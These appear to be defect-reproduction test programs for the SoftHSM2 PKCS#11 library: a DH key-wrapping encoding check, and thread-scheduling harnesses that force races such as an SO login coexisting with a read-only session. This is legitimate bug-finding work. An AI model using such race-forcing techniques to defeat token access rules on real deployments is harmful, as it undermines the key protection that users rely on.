	0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xC9,0x0F,0xDA,0xA2,0x21,0x68,0xC2,0x34,0xC4,0xC6,0x62,0x8B,0x80,0xDC,0x1C,0xD1,
	0x29,0x02,0x4E,0x08,0x8A,0x67,0xCC,0x74,0x02,0x0B,0xBE,0xA6,0x3B,0x13,0x9B,0x22,0x51,0x4A,0x08,0x79,0x8E,0x34,0x04,0xDD,
	0xEF,0x95,0x19,0xB3,0xCD,0x3A,0x43,0x1B,0x30,0x2B,0x0A,0x6D,0xF2,0x5F,0x14,0x37,0x4F,0xE1,0x35,0x6D,0x6D,0x51,0xC2,0x45,
	0xE4,0x85,0xB5,0x76,0x62,0x5E,0x7E,0xC6,0xF4,0x4C,0x42,0xE9,0xA6,0x37,0xED,0x6B,0x0B,0xFF,0x5C,0xB6,0xF4,0x06,0xB7,0xED,
	0xEE,0x38,0x6B,0xFB,0x5A,0x89,0x9F,0xA5,0xAE,0x9F,0x24,0x11,0x7C,0x4B,0x1F,0xE6,0x49,0x28,0x66,0x51,0xEC,0xE6,0x53,0x81,
	0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF,0xFF };
static const CK_BYTE G2[1] = { 2 };

/* ---- minimal DER writer ---- */
static size_t der_hdr(CK_BYTE *o, CK_BYTE tag, size_t len)
{
	size_t n = 0; o[n++] = tag;
	if (len < 128) o[n++] = (CK_BYTE)len;
	else if (len < 256) { o[n++] = 0x81; o[n++] = (CK_BYTE)len; }
	else { o[n++] = 0x82; o[n++] = (CK_BYTE)(len >> 8); o[n++] = (CK_BYTE)len; }
	return n;
}
static size_t der_int(CK_BYTE *o, const CK_BYTE *v, size_t l)
{
	while (l > 1 && v[0] == 0) { v++; l--; }
	int pad = (v[0] & 0x80) ? 1 : 0;
	size_t n = der_hdr(o, 0x02, l + pad);
	if (pad) o[n++] = 0;
	memcpy(o + n, v, l);
	return n + l;
}
static size_t der_wrap(CK_BYTE *o, CK_BYTE tag, const CK_BYTE *body, size_t l)
{
	size_t n = der_hdr(o, tag, l); memcpy(o + n, body, l); return n + l;
}
/* ---- minimal DER reader: returns header length, sets *len ---- */
static size_t der_read(const CK_BYTE *p, size_t avail, CK_BYTE *tag, size_t *len)
{
	if (avail < 2) return 0;
	*tag = p[0];
	if (p[1] < 128) { *len = p[1]; return 2; }
	if (p[1] == 0x81 && avail >= 3) { *len = p[2]; return 3; }
	if (p[1] == 0x82 && avail >= 4) { *len = ((size_t)p[2] << 8) | p[3]; return 4; }
	return 0;
}

static int scenario(const char *libdir)
{
	CK_RV rv;
	p11_setup(libdir, NULL);
	CK_SESSION_HANDLE s = open_rw();
	login_user(s);

	CK_OBJECT_CLASS skClass = CKO_SECRET_KEY, prvClass = CKO_PRIVATE_KEY; CK_KEY_TYPE ktAES = CKK_AES, ktDH = CKK_DH;
	CK_BYTE wk[16]; memset(wk, 0x33, sizeof wk);
	CK_ATTRIBUTE wT[] = { A(CKA_CLASS, skClass), A(CKA_KEY_TYPE, ktAES), { CKA_VALUE, wk, 16 }, A(CKA_WRAP, ckTrue), A(CKA_UNWRAP, ckTrue), A(CKA_ENCRYPT, ckTrue), A(CKA_DECRYPT, ckTrue) };
	CK_OBJECT_HANDLE hW;
	CHECK_SETUP(F->C_CreateObject(s, wT, 7, &hW));
	CK_BYTE iv[16] = { 0 };
	CK_MECHANISM cbcpad = { CKM_AES_CBC_PAD, iv, sizeof iv };

	CK_MECHANISM kpg = { CKM_DH_PKCS_KEY_PAIR_GEN, NULL, 0 };
	CK_ATTRIBUTE pubT[] = { { CKA_PRIME, (void *)P1024, sizeof P1024 }, { CKA_BASE, (void *)G2, 1 } };
	CK_ATTRIBUTE prvT[] = { A(CKA_PRIVATE, ckTrue), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue), A(CKA_DERIVE, ckTrue) };
	CK_OBJECT_HANDLE hPub, hPrv;
	CHECK_SETUP(F->C_GenerateKeyPair(s, &kpg, pubT, 2, prvT, 4, &hPub, &hPrv));
	CK_BYTE x[256]; CK_ULONG xl = sizeof x;
	CHECK_SETUP(get_attr(s, hPrv, CKA_VALUE, x, &xl));
	printf("DH key pair generated on the RFC 2409 1024-bit group; private value has %lu bytes\n", xl);

	/* ---- A: what does C_WrapKey emit? ---- */
	int nonStandardOut = 0;
	CK_BYTE blob[1024]; CK_ULONG bl = sizeof blob;
	CHECK_SETUP(F->C_WrapKey(s, &cbcpad, hW, hPrv, blob, &bl));
	CK_BYTE p8[1024]; CK_ULONG p8l = sizeof p8;
	CHECK_SETUP(F->C_DecryptInit(s, &cbcpad, hW));
	CHECK_SETUP(F->C_Decrypt(s, blob, bl, p8, &p8l));
	printf("A. C_WrapKey(CKM_AES_CBC_PAD) of the DH private key: %lu bytes, PKCS#8 inside: %lu bytes\n", bl, p8l);
	{
		CK_BYTE tag; size_t len, h, pos = 0;
		h = der_read(p8, p8l, &tag, &len); pos += h;                         /* PrivateKeyInfo SEQUENCE */
		h = der_read(p8 + pos, p8l - pos, &tag, &len); pos += h + len;        /* version */
		h = der_read(p8 + pos, p8l - pos, &tag, &len); pos += h;              /* AlgorithmIdentifier SEQUENCE */
		const CK_BYTE *oid = p8 + pos;
		h = der_read(p8 + pos, p8l - pos, &tag, &len); size_t oidTotal = h + len; pos += oidTotal;
		int isPkcs3 = (oidTotal == sizeof OID_PKCS3 && !memcmp(oid, OID_PKCS3, oidTotal));
		int isX942 = (oidTotal == sizeof OID_X942 && !memcmp(oid, OID_X942, oidTotal));
		h = der_read(p8 + pos, p8l - pos, &tag, &len); pos += h;              /* parameters SEQUENCE */
		size_t end = pos + len; int ints = 0;
		while (pos < end) { size_t l2; h = der_read(p8 + pos, end - pos, &tag, &l2); if (!h) break; if (tag == 0x02) ints++; pos += h + l2; }
		hexdump("   algorithm OID (DER)", oid, oidTotal);
		printf("   = %s, parameters contain %d INTEGERs\n", isPkcs3 ? "dhKeyAgreement 1.2.840.113549.1.3.1 (PKCS#3)" : isX942 ? "dhpublicnumber 1.2.840.10046.2.1 (X9.42)" : "something else", ints);
		if (isPkcs3 && ints >= 2) printf("   standard PKCS#3 DH PrivateKeyInfo\n");
		else if (isX942 && ints >= 3) printf("   standard X9.42 DH PrivateKeyInfo\n");
		else { printf("   NOT a standard encoding: X9.42 DomainParameters are { p, g, q, ... }, q is mandatory; OpenSSL answers\n"
			      "   \"Could not find private key\" / unsupported for this structure\n"); nonStandardOut = 1; }
	}

	/* ---- B: can C_UnwrapKey read the standard PKCS#3 form? ---- */
	CK_BYTE params[300], algid[320], oct[300], body[700], std8[720], tmp[300];
	size_t n = 0;
	n += der_int(tmp + n, P1024, sizeof P1024); n += der_int(tmp + n, G2, 1);
	size_t pl = der_wrap(params, 0x30, tmp, n);
	n = 0; memcpy(tmp, OID_PKCS3, sizeof OID_PKCS3); n = sizeof OID_PKCS3; memcpy(tmp + n, params, pl); n += pl;
	size_t al = der_wrap(algid, 0x30, tmp, n);
	n = der_int(tmp, x, xl);
	size_t ol = der_wrap(oct, 0x04, tmp, n);
	n = 0; body[n++] = 0x02; body[n++] = 0x01; body[n++] = 0x00; memcpy(body + n, algid, al); n += al; memcpy(body + n, oct, ol); n += ol;
	size_t sl = der_wrap(std8, 0x30, body, n);
	CK_BYTE enc[1024]; CK_ULONG el = sizeof enc;
	CHECK_SETUP(F->C_EncryptInit(s, &cbcpad, hW));
	CHECK_SETUP(F->C_Encrypt(s, std8, sl, enc, &el));
	CK_ATTRIBUTE uT[] = { A(CKA_CLASS, prvClass), A(CKA_KEY_TYPE, ktDH), A(CKA_SENSITIVE, ckFalse), A(CKA_EXTRACTABLE, ckTrue), A(CKA_PRIVATE, ckTrue) };
	CK_OBJECT_HANDLE hU = CK_INVALID_HANDLE;
	rv = F->C_UnwrapKey(s, &cbcpad, hW, enc, el, uT, 5, &hU);
	printf("B. C_UnwrapKey of the same key in the standard PKCS#3 PrivateKeyInfo form (%zu bytes, as OpenSSL writes it) -> 0x%lx (CKR_OK expected)\n", sl, rv);
	int cannotReadStandard = (rv != CKR_OK);
	if (rv == CKR_OK)
	{
		CK_BYTE x2[256]; CK_ULONG x2l = sizeof x2; get_attr(s, hU, CKA_VALUE, x2, &x2l);
		int same = (x2l == xl && !memcmp(x, x2, xl));
		printf("   private value of the unwrapped key %s\n", same ? "equals the original" : "DIFFERS");
		if (!same) cannotReadStandard = 1;
	}
	p11_cleanup();

	printf("\nproperty C13: wrapped blobs follow the mechanism's standard (... PKCS#8 for private keys) so that an independent implementation\n"
	       "can unwrap them and vice versa.\n");
	if (nonStandardOut || cannotReadStandard)
	{
		printf("observed: wrapped DH key is %sa standard PrivateKeyInfo; a standard PrivateKeyInfo %s be unwrapped. DEFECT REPRODUCED\n",
		       nonStandardOut ? "NOT " : "", cannotReadStandard ? "CANNOT" : "can");
		return 1;
	}
	printf("both directions use the standard encoding: not reproduced (this defect needs the Botan crypto backend)\n");
	return 0;
}

int main(int argc, char **argv)
{
	if (argc < 2) { printf("usage: %s <dir with libsofthsm2.so>\n", argv[0]); return 2; }
	int r = run_child(scenario, argv[1]);
	if (r >= 100) { printf("the scenario crashed\n"); return 2; }
	return r;
}
