/*
 * Defect 3 (C03): C_Login(CKU_SO) and C_OpenSession(read-only) check each
 * other's condition under different locks, without any common lock:
 *
 *   C_Login(SO):            sessionManager->haveROSession()   [sessionsMutex]
 *                           ... gap ...
 *                           token->loginSO()                  [tokenMutex]
 *   C_OpenSession(RO):      token->isSOLoggedIn()             [sessionsMutex + tokenMutex]
 *                           sessions.push_back()              [sessionsMutex]
 *
 * When the read-only session is opened in the gap, both calls succeed and the
 * token ends up with the SO logged in AND a read-only session.
 *
 * The replay makes the interleaving deterministic with the means PKCS#11 gives
 * an application: it passes its own mutex callbacks to C_Initialize
 * (CK_C_INITIALIZE_ARGS).  The LockMutex callback of the thread that runs
 * C_Login is delayed at its n-th lock request until the other thread has
 * finished C_OpenSession (or a time-out of 1.5 s expired, which means the
 * other thread is waiting for a mutex held by us - wrong n).  n is searched.
 * A second, purely informational part runs the same two calls on two plain
 * threads with the library's own OS locking, without any delay.
 */
#include "p11h_e.h"
#include <pthread.h>
#include <time.h>

static __thread int tl_is_login_thread = 0;
static volatile int armed = 0, lockcount = 0, pause_at = 0;
static volatile int go = 0, done = 0;

static CK_RV mx_create(CK_VOID_PTR_PTR pp) { pthread_mutex_t* m = malloc(sizeof(*m)); if (!m) return CKR_HOST_MEMORY; pthread_mutex_init(m, NULL); *pp = m; return CKR_OK; }
static CK_RV mx_destroy(CK_VOID_PTR p) { pthread_mutex_destroy((pthread_mutex_t*)p); free(p); return CKR_OK; }
static CK_RV mx_unlock(CK_VOID_PTR p) { pthread_mutex_unlock((pthread_mutex_t*)p); return CKR_OK; }
static CK_RV mx_lock(CK_VOID_PTR p)
{
	if (tl_is_login_thread && armed)
	{
		int n = ++lockcount;
		if (n == pause_at)
		{
			int waited = 0;
			go = 1;                                   /* let the other thread call C_OpenSession now */
			while (!done && waited < 1500) { usleep(1000); waited++; }
		}
	}
	pthread_mutex_lock((pthread_mutex_t*)p);
	return CKR_OK;
}

static CK_SLOT_ID g_slot;
static CK_SESSION_HANDLE g_ro;
static CK_RV g_rvOpen;

static void* opener(void* x)
{
	(void)x;
	while (!go) usleep(200);
	g_rvOpen = F->C_OpenSession(g_slot, CKF_SERIAL_SESSION, NULL_PTR, NULL_PTR, &g_ro);
	done = 1;
	return NULL;
}

static int g_n;

/* one attempt: delay the login thread at its g_n-th lock request inside C_Login */
static int attempt(void)
{
	CK_C_INITIALIZE_ARGS ia = { mx_create, mx_destroy, mx_lock, mx_unlock, 0, NULL_PTR };
	CK_SESSION_HANDLE rw;
	CK_SESSION_INFO si;
	CK_RV rvLogin;
	pthread_t th;

	MUST(F->C_Initialize(&ia));
	g_slot = slot_by_label("tokA");
	rw = open_rw(g_slot);
	pthread_create(&th, NULL, opener, NULL);
	tl_is_login_thread = 1; lockcount = 0; pause_at = g_n; armed = 1;
	rvLogin = login_so(rw, "sopin123");
	armed = 0;
	if (!go) go = 1;
	pthread_join(th, NULL);
	if (!(rvLogin == CKR_OK && g_rvOpen == CKR_OK))
	{
		SAY("  n=%2d: C_Login(SO) -> 0x%lx, C_OpenSession(read-only) -> 0x%lx : one of them was refused, as it should be", g_n, rvLogin, g_rvOpen);
		F->C_Finalize(NULL_PTR);
		return 0;
	}
	SAY("  n=%2d: thread 1 C_Login(CKU_SO) on R/W session %lu -> CKR_OK", g_n, rw);
	SAY("        thread 2 C_OpenSession(slot, CKF_SERIAL_SESSION only) -> CKR_OK, read-only session %lu", g_ro);
	MUST(F->C_GetSessionInfo(g_ro, &si));
	SAY("        C_GetSessionInfo(read-only session %lu): state=%lu (CKS_RW_SO_FUNCTIONS=%d) flags=0x%lx (CKF_RW_SESSION %s)", g_ro, si.state, (int)CKS_RW_SO_FUNCTIONS, si.flags, (si.flags & CKF_RW_SESSION) ? "set" : "NOT set");
	MUST(F->C_GetSessionInfo(rw, &si));
	SAY("        C_GetSessionInfo(R/W session %lu):       state=%lu", rw, si.state);
	SAY("        -> the SO is logged in while a read-only session exists");
	F->C_Finalize(NULL_PTR);
	return 1;
}

/* informational: plain threads, library's own locking, no delays */
static pthread_barrier_t bar;
static CK_SESSION_HANDLE n_rw, n_ro; static CK_RV n_rvLogin, n_rvOpen;
static void* nat_login(void* x) { (void)x; pthread_barrier_wait(&bar); n_rvLogin = login_so(n_rw, "sopin123"); return NULL; }
static void* nat_open(void* x) { struct timespec ts = { 0, 0 }; ts.tv_nsec = (long)(size_t)x; pthread_barrier_wait(&bar); if (ts.tv_nsec) nanosleep(&ts, NULL); n_rvOpen = F->C_OpenSession(g_slot, CKF_SERIAL_SESSION, NULL_PTR, NULL_PTR, &n_ro); return NULL; }

static int natural(void)
{
	CK_C_INITIALIZE_ARGS ia = { NULL_PTR, NULL_PTR, NULL_PTR, NULL_PTR, CKF_OS_LOCKING_OK, NULL_PTR };
	int i, hits = 0, rounds = 3000;
	MUST(F->C_Initialize(&ia));
	g_slot = slot_by_label("tokA");
	for (i = 0; i < rounds; i++)
	{
		pthread_t a, b;
		n_rw = open_rw(g_slot);
		pthread_barrier_init(&bar, NULL, 2);
		pthread_create(&a, NULL, nat_login, NULL);
		pthread_create(&b, NULL, nat_open, (void*)(size_t)((i % 40) * 500));
		pthread_join(a, NULL); pthread_join(b, NULL);
		pthread_barrier_destroy(&bar);
		if (n_rvLogin == CKR_OK && n_rvOpen == CKR_OK)
		{
			if (hits == 0) SAY("  round %d: C_Login(SO) -> CKR_OK and C_OpenSession(read-only) -> CKR_OK at the same time, R/O session state %lu", i, state_of(n_ro));
			hits++;
		}
		MUST(F->C_CloseAllSessions(g_slot));
	}
	SAY("  plain threads, no delays: both calls succeeded in %d of %d rounds", hits, rounds);
	F->C_Finalize(NULL_PTR);
	return hits ? 1 : 0;
}

static int setup(void)
{
	MUST(F->C_Initialize(NULL_PTR));
	new_token("tokA", "sopin123", "userpin1");
	MUST(F->C_Finalize(NULL_PTR));
	return 0;
}

int main(int argc, char** argv)
{
	int reproduced = 0, r;
	if (argc < 2) SETUP_FAIL("usage: repro <libdir>");
	make_conf();
	load_lib(argv[1]);
	if (run_child(setup, 60) != 0) { rm_rf_dir(); return 2; }

	SAY("Property C03: \"... SO login is refused while a read-only session exists, a read-only session cannot be opened");
	SAY("  while the SO is logged in ...\"  - whatever the order of two concurrent calls, one of them has to be refused.");
	SAY("");
	SAY("Part 1: application supplied mutex callbacks; thread 1 is held at its n-th LockMutex request inside C_Login(CKU_SO)");
	SAY("        while thread 2 runs C_OpenSession(read-only)");
	for (g_n = 1; g_n <= 12 && !reproduced; g_n++)
	{
		r = run_child(attempt, 30);
		if (r == 1) reproduced = 1;
		else if (r != 0) SAY("  n=%2d: attempt failed (%d)", g_n, r);
	}
	SAY("  => %s", reproduced ? "VIOLATION: SO logged in and read-only session open at the same time" : "not reproduced with delays");
	SAY("Part 2 (informational, timing dependent): the same two calls on two plain threads, CKF_OS_LOCKING_OK");
	r = run_child(natural, 120);
	SAY("  => %s", r == 1 ? "the race also occurs without any help" : "not hit in this run (the window is only a few instructions wide)");
	rm_rf_dir();
	if (reproduced || r == 1) { SAY("DEFECT REPRODUCED"); return 1; }
	SAY("not reproduced");
	return 0;
}
