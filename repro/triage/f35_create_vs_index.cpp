/* F35 replay (never part of a check): C_CreateObject of a token object suspended between writing the new object file and registering it,
 * while another thread's C_FindObjectsInit re-indexes the token directory.  Built on the schedule controller a seeding sub-agent wrote for C18
 * (application-supplied mutex callbacks).  build: g++ -std=c++11 -pthread f35_create_vs_index.cpp -ldl ; usage: f35 <path of libsofthsm2.so> */
/* ------------------------------------------------------------------------
 * Tiny schedule controller built on the application-supplied mutex callbacks.
 *
 * Two worker threads: A (role 1) and B (role 2).  Thread A runs operation A
 * and is suspended at its k-th mutex callback at which it holds no library
 * mutex (before a LockMutex acquires, after an UnlockMutex released, after
 * Create/Destroy).  While A is suspended thread B runs operation B to
 * completion (should it block on a mutex, A is resumed); then A is resumed.
 * All k are explored.
 * ---------------------------------------------------------------------- */
#include <dlfcn.h>
#include <pthread.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include "cryptoki.h"

struct AppMutex { pthread_mutex_t m; volatile int destroyed; };

static CK_FUNCTION_LIST_PTR p11 = NULL;

static pthread_mutex_t g_mu = PTHREAD_MUTEX_INITIALIZER;
static pthread_cond_t  g_cv = PTHREAD_COND_INITIALIZER;
static volatile long g_pause_at = 0;      /* k, 0 = never pause */
static volatile int  g_phase = 0;         /* 0: A runs, 1: A suspended/B runs, 2: A resumed */
static volatile int  g_a_done = 0;
static volatile long g_a_events = 0;      /* callbacks seen in thread A */
static volatile int  g_paused_hit = 0;
static volatile int  g_misuse = 0;        /* library used a destroyed mutex */
static volatile void* g_skip_mutex = NULL;/* callbacks on this mutex are not pause points */
static void* g_first_mutex = NULL;
static __thread int tl_role = 0;
static __thread int tl_depth = 0;         /* number of library mutexes held by this thread */

static void die_deadlock(const char* who)
{
	fprintf(stderr, "FAIL: DEADLOCK - thread %s could not acquire a library mutex within 20 s\n", who);
	fflush(stderr);
	_exit(3);
}

static void a_hook(void* mtx)
{
	if (tl_role != 1) return;
	if (tl_depth != 0) return;
	if (mtx != NULL && mtx == g_skip_mutex) return;
	long n = ++g_a_events;
	if (g_pause_at == 0 || n != g_pause_at) return;
	pthread_mutex_lock(&g_mu);
	g_paused_hit = 1;
	g_phase = 1;
	pthread_cond_broadcast(&g_cv);
	while (g_phase == 1) pthread_cond_wait(&g_cv, &g_mu);
	pthread_mutex_unlock(&g_mu);
}

static void b_blocked(void)
{
	pthread_mutex_lock(&g_mu);
	if (g_phase == 1) { g_phase = 2; pthread_cond_broadcast(&g_cv); }
	pthread_mutex_unlock(&g_mu);
}

static CK_RV app_create(CK_VOID_PTR_PTR pp)
{
	AppMutex* m = (AppMutex*) calloc(1, sizeof(AppMutex));
	if (m == NULL) return CKR_HOST_MEMORY;
	pthread_mutex_init(&m->m, NULL);
	*pp = m;
	if (g_first_mutex == NULL) g_first_mutex = m;
	a_hook(NULL);
	return CKR_OK;
}

static CK_RV app_destroy(CK_VOID_PTR p)
{
	AppMutex* m = (AppMutex*) p;
	if (m == NULL) return CKR_ARGUMENTS_BAD;
	m->destroyed = 1;          /* memory is kept so that later misuse can be detected */
	a_hook(NULL);
	return CKR_OK;
}

static CK_RV app_lock(CK_VOID_PTR p)
{
	AppMutex* m = (AppMutex*) p;
	if (m == NULL) return CKR_ARGUMENTS_BAD;
	a_hook(m);
	if (m->destroyed) g_misuse = 1;
	if (pthread_mutex_trylock(&m->m) == 0) { tl_depth++; return CKR_OK; }
	if (tl_role == 2) b_blocked();
	struct timespec ts;
	clock_gettime(CLOCK_REALTIME, &ts);
	ts.tv_sec += 20;
	if (pthread_mutex_timedlock(&m->m, &ts) != 0) die_deadlock(tl_role == 1 ? "A" : (tl_role == 2 ? "B" : "main"));
	tl_depth++;
	return CKR_OK;
}

static CK_RV app_unlock(CK_VOID_PTR p)
{
	AppMutex* m = (AppMutex*) p;
	if (m == NULL) return CKR_ARGUMENTS_BAD;
	if (m->destroyed) g_misuse = 1;
	pthread_mutex_unlock(&m->m);
	tl_depth--;
	a_hook(m);
	return CKR_OK;
}

typedef void (*op_fn)(void);
static op_fn g_opA, g_opB;

static void* thread_a(void*)
{
	tl_role = 1;
	g_opA();
	tl_role = 0;
	pthread_mutex_lock(&g_mu);
	g_a_done = 1;
	if (g_phase == 0) g_phase = 2;
	pthread_cond_broadcast(&g_cv);
	pthread_mutex_unlock(&g_mu);
	return NULL;
}

static void* thread_b(void*)
{
	tl_role = 2;
	pthread_mutex_lock(&g_mu);
	while (g_phase == 0) pthread_cond_wait(&g_cv, &g_mu);
	pthread_mutex_unlock(&g_mu);
	g_opB();
	tl_role = 0;
	b_blocked();  /* B finished: resume A if it is still suspended */
	return NULL;
}

/* Run A and B with A suspended at its k-th callback (k = 0: A runs to completion first).
 * Returns 1 if the pause point was reached, 0 if A finished before its k-th callback. */
static int run_pair(long k, op_fn a, op_fn b)
{
	pthread_t ta, tb;
	g_opA = a; g_opB = b;
	g_pause_at = k; g_phase = 0; g_a_done = 0; g_a_events = 0; g_paused_hit = 0;
	pthread_create(&tb, NULL, thread_b, NULL);
	pthread_create(&ta, NULL, thread_a, NULL);
	pthread_join(ta, NULL);
	pthread_join(tb, NULL);
	return g_paused_hit;
}

static void load_library(const char* path)
{
	void* h = dlopen(path, RTLD_NOW | RTLD_LOCAL);
	if (h == NULL) { fprintf(stderr, "dlopen %s: %s\n", path, dlerror()); exit(99); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList) dlsym(h, "C_GetFunctionList");
	if (gfl == NULL || gfl(&p11) != CKR_OK) { fprintf(stderr, "C_GetFunctionList failed\n"); exit(99); }
}

#define MUST(call) do { CK_RV rv__ = (call); if (rv__ != CKR_OK) { \
	fprintf(stderr, "setup step failed: %s -> 0x%lx (line %d)\n", #call, (unsigned long) rv__, __LINE__); exit(98); } } while (0)

static void init_with_app_mutexes(void)
{
	CK_C_INITIALIZE_ARGS args;
	memset(&args, 0, sizeof(args));
	args.CreateMutex = app_create;
	args.DestroyMutex = app_destroy;
	args.LockMutex = app_lock;
	args.UnlockMutex = app_unlock;
	args.flags = 0;
	MUST(p11->C_Initialize(&args));
}

/* Initialise a token in the first free slot; returns the slot id it ends up in. */
static CK_SLOT_ID make_token(const char* label, const char* sopin, const char* userpin)
{
	CK_SLOT_ID slots[64]; CK_ULONG n = 0;
	MUST(p11->C_GetSlotList(CK_FALSE, NULL, &n));
	if (n > 64) n = 64;
	MUST(p11->C_GetSlotList(CK_FALSE, slots, &n));
	CK_SLOT_ID freeSlot = (CK_SLOT_ID) -1;
	for (CK_ULONG i = 0; i < n; i++)
	{
		CK_TOKEN_INFO ti;
		MUST(p11->C_GetTokenInfo(slots[i], &ti));
		if (!(ti.flags & CKF_TOKEN_INITIALIZED)) { freeSlot = slots[i]; break; }
	}
	if (freeSlot == (CK_SLOT_ID) -1) { fprintf(stderr, "no free slot\n"); exit(98); }
	CK_UTF8CHAR lab[32]; memset(lab, ' ', 32); memcpy(lab, label, strlen(label));
	MUST(p11->C_InitToken(freeSlot, (CK_UTF8CHAR_PTR) sopin, strlen(sopin), lab));
	/* the slot id changes after initialisation: find the token by label */
	MUST(p11->C_GetSlotList(CK_TRUE, NULL, &n));
	if (n > 64) n = 64;
	MUST(p11->C_GetSlotList(CK_TRUE, slots, &n));
	CK_SLOT_ID slot = (CK_SLOT_ID) -1;
	for (CK_ULONG i = 0; i < n; i++)
	{
		CK_TOKEN_INFO ti;
		MUST(p11->C_GetTokenInfo(slots[i], &ti));
		if ((ti.flags & CKF_TOKEN_INITIALIZED) && memcmp(ti.label, lab, 32) == 0) { slot = slots[i]; break; }
	}
	if (slot == (CK_SLOT_ID) -1) { fprintf(stderr, "token not found after C_InitToken\n"); exit(98); }
	CK_SESSION_HANDLE s;
	MUST(p11->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &s));
	MUST(p11->C_Login(s, CKU_SO, (CK_UTF8CHAR_PTR) sopin, strlen(sopin)));
	MUST(p11->C_InitPIN(s, (CK_UTF8CHAR_PTR) userpin, strlen(userpin)));
	MUST(p11->C_Logout(s));
	MUST(p11->C_CloseSession(s));
	return slot;
}
/* ---------------------------------------------------------------------- */
/*
 * Demo 2 (C18): C_FindObjectsInit in one session racing with C_CreateObject of a
 * token object in another session of the same token (file backend).
 *
 * Thread A: C_FindObjectsInit/C_FindObjects/C_FindObjectsFinal(sA, CKA_LABEL="keep")
 * Thread B: C_CreateObject(sB, CKO_DATA, CKA_TOKEN=true, CKA_LABEL=L) -> hB
 *
 * Nobody destroys anything.  Whatever the order, after both threads are done the
 * handle hB returned to B must still designate the object (C_GetAttributeValue
 * succeeds), exactly one object with label L exists, and A finds the one "keep"
 * object.
 */
static CK_SLOT_ID slot;
static CK_SESSION_HANDLE sA, sB;
static CK_RV rvA, rvB;
static CK_OBJECT_HANDLE hB;
static CK_ULONG nA;
static char label[32];

static CK_RV create_data(CK_SESSION_HANDLE s, const char* lab, CK_OBJECT_HANDLE* ph)
{
	CK_OBJECT_CLASS cls = CKO_DATA;
	CK_BBOOL t = CK_TRUE, f = CK_FALSE;
	CK_BYTE val[] = { 1, 2, 3, 4 };
	CK_ATTRIBUTE tpl[] = {
		{ CKA_CLASS, &cls, sizeof(cls) },
		{ CKA_TOKEN, &t, sizeof(t) },
		{ CKA_PRIVATE, &f, sizeof(f) },
		{ CKA_LABEL, (void*) lab, strlen(lab) },
		{ CKA_VALUE, val, sizeof(val) }
	};
	return p11->C_CreateObject(s, tpl, 5, ph);
}

static CK_RV find_label(CK_SESSION_HANDLE s, const char* lab, CK_OBJECT_HANDLE* out, CK_ULONG max, CK_ULONG* pn)
{
	CK_ATTRIBUTE tpl[] = { { CKA_LABEL, (void*) lab, strlen(lab) } };
	*pn = 0;
	CK_RV rv = p11->C_FindObjectsInit(s, tpl, 1);
	if (rv != CKR_OK) return rv;
	rv = p11->C_FindObjects(s, out, max, pn);
	p11->C_FindObjectsFinal(s);
	return rv;
}

static CK_RV read_label(CK_SESSION_HANDLE s, CK_OBJECT_HANDLE h)
{
	char buf[64];
	CK_ATTRIBUTE a = { CKA_LABEL, buf, sizeof(buf) };
	return p11->C_GetAttributeValue(s, h, &a, 1);
}

static void opA(void) { rvB = create_data(sB, label, &hB); }                                  /* the suspended thread creates */
static void opB(void) { CK_OBJECT_HANDLE h[8]; rvA = find_label(sA, "keep", h, 8, &nA); }   /* the other one searches (re-index) */

int main(int argc, char** argv)
{
	if (argc < 2) { fprintf(stderr, "usage: demo <libsofthsm2.so>\n"); return 99; }
	load_library(argv[1]);
	init_with_app_mutexes();
	g_skip_mutex = g_first_mutex;   /* secure-memory registry: not interesting here */
	slot = make_token("c18demo2", "12345678", "1234");
	MUST(p11->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &sA));
	MUST(p11->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &sB));
	MUST(p11->C_Login(sA, CKU_USER, (CK_UTF8CHAR_PTR) "1234", 4));
	CK_OBJECT_HANDLE hKeep;
	MUST(create_data(sA, "keep", &hKeep));

	int failures = 0;
	long k;
	for (k = 1; k < 100000; k++)
	{
		snprintf(label, sizeof(label), "obj-%ld", k);
		hB = CK_INVALID_HANDLE;

		int hit = run_pair(k, opA, opB);

		CK_OBJECT_HANDLE h[8]; CK_ULONG n = 0;
		CK_RV rvRead = (rvB == CKR_OK) ? read_label(sB, hB) : CKR_OK;
		MUST(find_label(sA, label, h, 8, &n));
		if (rvA != CKR_OK || nA != 1 || rvB != CKR_OK || rvRead != CKR_OK || n != 1)
		{
			failures++;
			fprintf(stderr, "FAIL (C_CreateObject suspended at its callback %ld while the other thread searched): find=0x%lx (found %lu \"keep\" objects, expected 1), C_CreateObject=0x%lx; "
				"afterwards C_GetAttributeValue on the handle C_CreateObject returned gives 0x%lx (expected CKR_OK; 0x82 = CKR_OBJECT_HANDLE_INVALID) "
				"and %lu object(s) with label %s exist (expected 1)\n",
				k, (unsigned long) rvA, (unsigned long) nA, (unsigned long) rvB,
				(unsigned long) rvRead, (unsigned long) n, label);
		}
		if (g_misuse) { failures++; fprintf(stderr, "FAIL: library used a destroyed mutex\n"); g_misuse = 0; }
		for (CK_ULONG i = 0; i < n; i++) p11->C_DestroyObject(sA, h[i]);

		if (!hit) break;
		if (failures >= 3) break;
	}
	printf("explored %ld pause points, %d failure(s)\n", k, failures);
	p11->C_Finalize(NULL);
	return failures ? 1 : 0;
}
