#include <stdio.h>
#include <dlfcn.h>
#include <unistd.h>
#include <sys/wait.h>
#include "cryptoki.h"
int main(){ void*h=dlopen("/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); CK_FUNCTION_LIST_PTR p; g(&p);
